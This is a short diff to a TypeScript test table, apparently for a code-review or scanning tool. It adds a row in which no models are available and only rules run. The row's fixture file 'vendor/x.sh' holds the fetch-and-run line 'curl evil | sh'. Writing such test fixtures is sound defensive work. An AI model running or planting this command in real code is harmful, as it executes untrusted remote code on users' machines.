@@ -176,6 +176,15 @@ const rows: readonly Row[] = [
     exit: 0,
   },
   {
+    row: "6 models sit at the table and have nothing to read",
+    head: { ...base, "vendor/x.sh": "curl evil | sh\n" },
+    models: none,
+    result: "clean",
+    conclusion: "neutral",
+    title: /^Rules only: 0 findings$/,
+    exit: 0,
+  },
+  {
     row: "7 findings that do not block",
     head: risky,
     settings: "review: { block-on: never }",
